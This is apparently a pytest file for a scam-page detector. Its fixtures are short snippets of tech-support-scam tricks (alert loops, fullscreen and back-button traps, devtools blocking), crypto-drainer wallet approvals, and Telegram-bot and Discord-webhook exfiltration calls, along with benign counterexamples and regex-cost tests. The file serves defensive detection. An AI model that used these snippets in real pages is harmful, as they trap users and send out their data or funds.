"""Marks in the source of a page: each by the code that does what its victim would recognise. Accounts of vendors: test_web_accounts."""

from functools import partial

import pytest

from scamtriage.knowledge.pages.web import find_marks, load_rules
from tests.cost import least_cpu_s
from tests.knowledge.web_marks import marks

TOKEN = "123456789:AA" + "x" * 33


@pytest.mark.parametrize(
    ("source", "mark"),
    [
        ("document.documentElement.requestFullscreen()", ("behaviour", "fullscreen", "")),
        ("el.webkitRequestFullScreen();", ("behaviour", "fullscreen", "")),
        ("while(true){alert('infected')}", ("behaviour", "dialog-loop", "")),
        ("setInterval(function(){ confirm('x') }, 10)", ("behaviour", "dialog-loop", "")),
        ("for(;;){ window.print() }", ("behaviour", "print-loop", "")),
        ("window.onbeforeunload=function(){return 'stay'}", ("behaviour", "before-unload", "")),
        ("navigator.clipboard.writeText(addr)", ("behaviour", "clipboard-write", "")),
        ('document.execCommand("Copy")', ("behaviour", "clipboard-write", "")),
        ('<body oncontextmenu="return false">', ("behaviour", "no-context-menu", "")),
        ("document.addEventListener('contextmenu', e => e.preventDefault())", ("behaviour", "no-context-menu", "")),
        ("if(e.keyCode==123){return false}", ("behaviour", "devtools-block", "")),
        ("setInterval(function(){debugger;},100)", ("behaviour", "debugger-timer", "")),
        ('<audio src="a.mp3" autoplay loop>', ("behaviour", "audio-autoplay", "")),
        ("for(var i=0;i<99;i++){history.pushState(0,'',i)}", ("behaviour", "history-trap", "")),
        ("window.onpopstate=function(){history.pushState(1,'','')}", ("behaviour", "history-trap", "")),
        ("navigator.keyboard.lock()", ("behaviour", "keyboard-lock", "")),
        ("body{cursor:none}", ("behaviour", "hidden-cursor", "")),
        ('<div class="countdown"></div><script>setInterval(tick,1000)</script>', ("behaviour", "countdown", "")),
        ("function a(){alert('x');setTimeout(a,100)}a()", ("behaviour", "dialog-loop", "")),
        ("function a(){alert('x');a()}a()", ("behaviour", "dialog-loop", "")),
        ("const f=()=>{alert('x');setTimeout(f,10)};f()", ("behaviour", "dialog-loop", "")),
        ("var f = async function(){print();f()}", ("behaviour", "print-loop", "")),
        ("element['request'+'Fullscreen']()", ("behaviour", "fullscreen", "")),
        ("var s=document.createElement('audio');s.src='a.mp3';s.play()", ("behaviour", "audio-autoplay", "")),
        ("<embed src=a.mp3 autostart=true>", ("behaviour", "audio-autoplay", "")),
        ("do{alert('x')}while(1)", ("behaviour", "dialog-loop", "")),
        ("let n=0; while(n<9999){ window.alert('stay'); n++ }", ("behaviour", "dialog-loop", "")),
        ("setInterval(window.print,500)", ("behaviour", "print-loop", "")),
        ("function p(){print();setTimeout(p,10)}p()", ("behaviour", "print-loop", "")),
        ("window.addEventListener(`beforeunload`,stay)", ("behaviour", "before-unload", "")),
        ("navigator.clipboard.write([new ClipboardItem({})])", ("behaviour", "clipboard-write", "")),
        ("document.oncontextmenu=()=>!1", ("behaviour", "no-context-menu", "")),
        ("if(123==e.keyCode)return!1", ("behaviour", "devtools-block", "")),
        ("if(e.ctrlKey&&e.shiftKey&&e.keyCode==73)return false", ("behaviour", "devtools-block", "")),
        ("if(e.ctrlKey && e.shiftKey && e.key==='I')return false", ("behaviour", "devtools-block", "")),
        ("Function('debugger')()", ("behaviour", "debugger-timer", "")),
        ("<AUDIO SRC=a.mp3 AutoPlay>", ("behaviour", "audio-autoplay", "")),
        ("document.querySelector('audio').play()", ("behaviour", "audio-autoplay", "")),
        ("var x=document.getElementById('beep');x.loop=true;x.play()", ("behaviour", "audio-autoplay", "")),
        ("<video autoplay loop src=alarm.mp4></video>", ("behaviour", "audio-autoplay", "")),
        ("window.onhashchange=function(){location.hash='no-back'}", ("behaviour", "history-trap", "")),
        ("document.onkeydown=e=>e.preventDefault()", ("behaviour", "keyboard-lock", "")),
        ("for(;;){window['alert']('x')}", ("behaviour", "dialog-loop", "")),
        ("let f=alert;while(1)f('x')", ("behaviour", "dialog-loop", "")),
        ("while(confirm('x')||1);", ("behaviour", "dialog-loop", "")),
        ("while(!confirm('x'));", ("behaviour", "dialog-loop", "")),
        ("setInterval(alert,500,'x')", ("behaviour", "dialog-loop", "")),
        ("setInterval(\"alert('x')\",100)", ("behaviour", "dialog-loop", "")),
        ("setInterval(()=>alert('x'),100)", ("behaviour", "dialog-loop", "")),
        ("function pop(){alert('x')} setInterval(pop,100)", ("behaviour", "dialog-loop", "")),
        ("setInterval(pop, 100); function pop() { alert('x'); }", ("behaviour", "dialog-loop", "")),
        ("const pop = () => { alert('x'); focus() }; setInterval(window.pop, 250)", ("behaviour", "dialog-loop", "")),
        ("var pop=function(){confirm('x')};setInterval('pop()',500)", ("behaviour", "dialog-loop", "")),
        ("setInterval(function(){if(document.hasFocus()){alert('x')}},100)", ("behaviour", "dialog-loop", "")),
        ("function f(){alert(1);requestAnimationFrame(f)}f()", ("behaviour", "dialog-loop", "")),
        ("for(let i=0;i<1e9;i++)alert('x')", ("behaviour", "dialog-loop", "")),
        ("while(1){try{go('(')}catch(e){}alert('x')}", ("behaviour", "dialog-loop", "")),
        ("while(1)window.print()", ("behaviour", "print-loop", "")),
        ("addEventListener('mousedown',e=>{if(e.button==2)e.preventDefault()})", ("behaviour", "no-context-menu", "")),
        ("onkeydown=e=>{switch(e.keyCode){case 123:e.preventDefault()}}", ("behaviour", "devtools-block", "")),
        ("if([123,116].indexOf(e.keyCode)>-1)return false", ("behaviour", "devtools-block", "")),
        ("if(outerWidth-innerWidth>160){stop()}", ("behaviour", "devtools-block", "")),
        ('<body onload="beep.play()">', ("behaviour", "audio-autoplay", "")),
        ("var a=new Audio('x.mp3');a.loop=true;a.play()", ("behaviour", "audio-autoplay", "")),
        ("var a=new Audio('x.mp3');document.onclick=function(){a.play()}", ("behaviour", "audio-autoplay", "")),
        ("window.onpopstate=()=>history.go(1)", ("behaviour", "history-trap", "")),
        ("onpopstate=function(){location.href='https://a.top'}", ("behaviour", "history-trap", "")),
        ("for(i=0;i<50;i++)history.pushState({},'','#'+i)", ("behaviour", "history-trap", "")),
        ("phantom.solana.connect()", ("wallet", "connect", "")),
        ("createAppKit({adapters})", ("wallet", "connect", "")),
        ("okxwallet.request({method:'eth_accounts'})", ("wallet", "connect", "")),
        ("tronWeb.trx.sign(tx)", ("wallet", "sign", "")),
        ("await window.solana.signTransaction(tx)", ("wallet", "sign", "")),
        ("signer.sendTransaction({to:x,value:y})", ("wallet", "sign", "")),
        ("provider.send('wallet_sendCalls',[c])", ("wallet", "sign", "")),
        ("fetch('https://api.tele'+'gram.org/bot'+t+'/send')", ("exfil", "telegram-bot", "")),
        ("u='https://api.telegram.'+\"org/\" + 'bot'+t+'/sendMessage'", ("exfil", "telegram-bot", "")),
        ("u=atob('aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDEyMzQ1Njc4OTpBQUUw')", ("exfil", "telegram-bot", "")),
        ("Notification.requestPermission()", ("behaviour", "notification-prompt", "")),
        ("ethereum.request({method:'eth_requestAccounts'})", ("wallet", "connect", "")),
        ("contract.methods.approve(spender, max)", ("wallet", "approve", "")),
        ("nft.setApprovalForAll(op,true)", ("wallet", "setApprovalForAll", "")),
        ("token.increaseAllowance(a,b)", ("wallet", "increaseAllowance", "")),
        ("signer.signTypedData({Permit:1})", ("wallet", "sign", "")),
        (f"fetch('https://api.telegram.org/bot{TOKEN}/sendMessage')", ("exfil", "telegram-bot", "123456789")),
        ("fetch('https://api.telegram.org/bot'+t+'/sendMessage')", ("exfil", "telegram-bot", "")),
        ("function v(){if(!x){alert('a');return false}} while(true){alert('b')}", ("behaviour", "dialog-loop", "")),
        ("while(true){ if(!a) b(); alert('x'); location.href='tel:1' }", ("behaviour", "dialog-loop", "")),
        ("setInterval(function(){ if(c){ alert('x'); location.href='tel:1' } },9)", ("behaviour", "dialog-loop", "")),
        ("while(true){ /* :-) */ alert('x') }", ("behaviour", "dialog-loop", "")),
        ("function f(){alert('//cdn.site/x');f()}f()", ("behaviour", "dialog-loop", "")),
        ("function f(){// stay\n alert('x')\n f()}f()", ("behaviour", "dialog-loop", "")),
        ("function f(){alert('x'); return f()}f()", ("behaviour", "dialog-loop", "")),
        ("while(true){// alert('a')\n alert('b')}", ("behaviour", "dialog-loop", "")),
        ("while(1){1/*x*//alert('x')/1}", ("behaviour", "dialog-loop", "")),
        ("function f(){ alert('x'); setTimeout(() => f(), 10) }", ("behaviour", "dialog-loop", "")),
        ("function f(){ alert('x'); setTimeout(function(){ f(); }, 10) }", ("behaviour", "dialog-loop", "")),
        ("function f(){ alert('x'); try { f() } catch (e) { } }", ("behaviour", "dialog-loop", "")),
        ("function f(){alert('x'); /* again */ f()}", ("behaviour", "dialog-loop", "")),
        ("function f(){alert('x')||f()}", ("behaviour", "dialog-loop", "")),
        ("const f = () => { alert('x'); var y = f(); }", ("behaviour", "dialog-loop", "")),
        ("function f(){alert('x');window.f()}", ("behaviour", "dialog-loop", "")),
        ('window.addEventListener("popstate",function(e){location.href=backUrl},false)', ("behaviour", "history-trap", "")),
        ("/*bot[x*/fetch('//api.telegram.org/bot'+t)", ("exfil", "telegram-bot", "")),
        ("fetch(`https://api.telegram.org/bot${t}/sendMessage`)", ("exfil", "telegram-bot", "")),
        ('{"u":"https:\\/\\/api.telegram.org\\/bot123456789:AA"}', ("exfil", "telegram-bot", "123456789")),
        ("<form action=https://api.telegram.org/bot123456789:AA/sendMessage>", ("exfil", "telegram-bot", "123456789")),
        (f"var t='{TOKEN}'", ("exfil", "telegram-bot", "123456789")),
        ("https://discord.com/api/webhooks/123456789/abc", ("exfil", "discord-webhook", "")),
        ("fetch('https://discordapp.com/api/v10/webhooks/123456789/abc')", ("exfil", "discord-webhook", "")),
        ('{"u":"https:\\/\\/discord.com\\/api\\/webhooks\\/123456789\\/abc"}', ("exfil", "discord-webhook", "")),
        ("const c=navigator.clipboard;c.writeText('x')", ("behaviour", "clipboard-write", "")),
        ("window['Notification']['requestPermission']()", ("behaviour", "notification-prompt", "")),
        ("*{cursor:url(data:image/png;base64,iVBOR),none}", ("behaviour", "hidden-cursor", "")),
        ("dispatchEvent(new Event('eip6963:requestProvider'))", ("wallet", "connect", "")),
        ("import {injected} from '@wagmi/connectors'", ("wallet", "connect", "")),
        ("window.solflare.connect()", ("wallet", "connect", "")),
        ("window.unisat.sendBitcoin(a, 1000)", ("wallet", "sign", "")),
        ("tronWeb.transactionBuilder.updateAccountPermissions(a, o)", ("wallet", "sign", "")),
        ("w.signAndSubmitTransaction(t)", ("wallet", "sign", "")),
        ('<link href="/wp-content/themes/x.css">', ("technology", "WordPress", "")),
        ("<!-- Mirrored from bank.example/ by HTTrack Website Copier -->", ("technology", "HTTrack copy", "")),
        ('<form action="/next.php">', ("kit", "next.php", "/next.php")),
        ("fetch('/admin/visitor/')", ("kit", "admin/visitor", "/admin/visitor/")),
        ("<button>Add to cart</button>", ("cart", "cart", "")),
        ("<script>window._cf_chl_opt={}</script>", ("door", "challenge", "")),
        ('<div class="h-captcha">', ("door", "captcha", "")),
    ],
)
def test_a_mark_is_found_in_the_code_that_makes_it(source: str, mark: tuple[str, str, str]) -> None:
    assert mark in marks(source)


@pytest.mark.parametrize(
    "source",
    [
        "<p>The alert (see below) was sent.</p>",
        "<p>Model G-SHOCKGA2100, track GTM-ABCDE, pumps UA-12345-6 and AW-12345678</p>",
        '<div class="G-RIDLAYOUT1 track"><b class="GTM-ABCDE">{"sku":"G-SHOCKGA2100"}',
        "if(bad){alert('Please fill in your name')}",
        "function printPage(){window.print()}",
        "el.addEventListener('contextmenu', openMenu)",
        "history.pushState({page:1},'','/p/1')",
        "<p>Approve the request in your bank's app</p>",
        "<p>we support Telegram bots at api.telegram.org</p>",
        "color:#aa11bb; G-string; UA-less",
        "<p>countdown to new year</p>",
        '<a href="/login.html">Log in</a><form action="/search.php">',
        '<form action="/login.php"></form><form action="process.php"></form><form action="/send/card"></form><a href="/admin/logs/">',
        "fetch('/api/login');fetch('/api/otp');post('/api/card/');load('wallet-connect-v2.js');go('/wp-admin/post.php')",
        "<p>cartoon, cartography</p>",
        "function check(){if(!a.value){alert('Please fill in your name');return false}check()}",
        "function tick(){if(left<1)alert('Your session has ended');setTimeout(tick,1000)}",
        "function ask(){alert('Saved');window.location.reload()}function ask2(){ask()}",
        "<video autoplay loop muted src=a.mp4></video><video autoplay playsinline src=b.mp4></video><video controls src=c.mp4></video>",
        "var player=document.getElementById('video');player.play()",
        "if(e.ctrlKey&&e.keyCode==73){italic()}",
        "window.onhashchange=function(){route(location.hash)}",
        "db.sendTransaction(rows)",
        "car.drift.loaded(9); glacier.drift.load_more('9e38abcdvg92'); mail('ask@respond.iota')",
        "const f=()=>{alert('Saved');g()};if(a){alert('b')}if(c){alert('d')}",
        "const tick=()=>{if(left<1)alert('Over');setTimeout(tick,1000)}",
        "<embed src=a.mp3 autostart=false>var s=document.createElement('video');s.play();row['home'+'Screen']",
        "https://www.facebook.com/try?id=12345678901",
        '<a data-oaid="1234567890123456789" class="zalo-follow">',
        "_hmt.push(['_trackEvent','a'])",
        "u='/img/bot.png'; v='/sendMessage'",
        "<p>Docs: call https://api.telegram.org/bot&lt;token&gt;/getMe</p>",
        "<pre>curl 'https://api.telegram.org/bot&lt;token&gt;/sendMessage' -d text=hi</pre>",
        "<code>requests.post(f'https://api.telegram.org/bot{TOKEN}/sendMessage')</code>",
        "<p>A bot answers at https://api.telegram.org/botTOKEN/sendMessage</p>",
        "setInterval(a,9);alert(1)",
        "function a(){alert(1)} setInterval(b,9)",
        "function warn(){alert('You will be signed out soon')} setInterval(warn,60000)",
        "function tick(){if(!--left){alert('Time is up')}} setInterval(tick,1000)",
        "function tick(){left--;left?0:alert('Time is up')} setInterval(tick,1000)",
        "setInterval(tick,1000);function tick(){show()} function pay(){alert('Thank you')}",
        "setInterval(function(){x=')'},9);alert(1)",
        "for(i=0;i<20;i++)a();alert(1)",
        "for(let i=0;i<20;i++){rows[i].onclick=function(){alert(i)}}",
        "for(var i=0;i<10;i++){if(f[i].value==''){alert('Fill');return false}}",
        "for(;;){if(a)break}alert('x')",
        "function check(form) {\n  // alert('In check()' + form);\n  form.submit() }",
        "function check(form) {\n  alert('In check()' + form);\n  form.submit() }",
        "function check(form) {\n  alert('(check() of form');\n  form.submit() }",
        "function check(form) {\n  alert('Error: check() failed');\n  recheck() }",
        "while (node) {\n  //alert(node.name);\n  node = node.next; }\nfor (;;) {\n  // window.alert(1)\n  step() }",
        "function pop() {\n  // alert('Signed out'); \n  show() } setInterval(pop, 100)",
        "setInterval(function(){if(t<=0){clearInterval(x);alert('Time is up')}},1000)",
        "setInterval(a,9);b.onclick=()=>print()",
        "setInterval(function(){tick()},1000);$('#p').click(function(){window.print()})",
        "addEventListener('popstate',()=>{show(location.pathname)})",
        "window.onpopstate=render;function go(u){history.pushState(null,'',u);render()}",
        "for(const a of links){a.onclick=()=>{history.pushState(0,'',a.href)}}",
        "$(window).on('popstate',function(){location.reload()})",
        "new Audio('ding.mp3')",
        "const ding=new Audio('d.mp3');btn.addEventListener('click',()=>ding.play())",
        "if(e.which===123){open()}",
        "switch(e.keyCode){case 123: insert('{');break}",
        "var w=outerWidth - innerWidth;",
        "canvas.addEventListener('mousedown',e=>{if(e.button==2)pan=true})",
    ],
)
def test_ordinary_code_bears_no_mark(source: str) -> None:
    assert marks(source) == set()


def test_a_token_is_never_kept() -> None:
    assert all(TOKEN not in mark.value for mark in find_marks(f"https://api.telegram.org/bot{TOKEN}/x".encode()))


def test_a_flood_of_marks_hides_none() -> None:
    flood = "'GTM-ABCD123' " * 9_000
    assert ("exfil", "telegram-bot", "123456789") in marks(f"{flood} https://api.telegram.org/bot{TOKEN}")


@pytest.mark.parametrize("rule", load_rules(), ids=lambda rule: f"{rule.kind} {rule.name}")
def test_no_expression_of_a_rule_is_slow(rule: object) -> None:
    expressions = [e for e in (rule.near, rule.unless, rule.inside, rule.identity) if e is not None]  # type: ignore[attr-defined]
    window = rule.before + rule.after  # type: ignore[attr-defined]
    seeds = (b"(", b"a", b" ", b"setInterval(", b"for(;", b"while(", b'"', b"popstate", b"1", b"history.", b"'/(", b"A1")
    seeds += (b"function a(){alert(", b"do{alert(", b"<video autoplay ", b"a=document.getElementById('audio')", b"id:'", b"ctrlKey")
    seeds += (b"a=async function(", b"aa=a{", b"fbq:1234567890123")
    seeds += (b"while(1)", b"setInterval(()=>", b"if(", b"if{", b"=alert;", b"onpopstate=(", b"play(", b"a[", b"outer", b"mousedown button")
    for expression in expressions:
        for seed in seeds:
            attack = (seed * (window // len(seed) + 1))[:window]
            assert least_cpu_s(partial(expression.search, attack), within=0.05) <= 0.05


@pytest.mark.parametrize(
    "seed",
    [
        *("while(alert(", "for(;;){alert(", "popstate',()=>{history.go(", "new Audio(", "[123]", "case 123:key ", "=alert;while(1)"),
        *("alert(", "debugger;", "countdown", ".approve(", "tawk.to/chat/", "'GTM-ABCD", 'popstate"', "hm.baidu.com/hm.js"),
        *("function a(){alert(", "<video autoplay ", "<audio ", "a=document.getElementById('audio').play(", "%3dsdk.51.la", "'+'g/bot"),
    ],
)
def test_two_megabytes_of_heads_cost_little(seed: str) -> None:
    source = (seed * (2_000_000 // len(seed))).encode()
    find_marks(b"warm")
    assert least_cpu_s(lambda: find_marks(source), within=0.6) <= 0.6
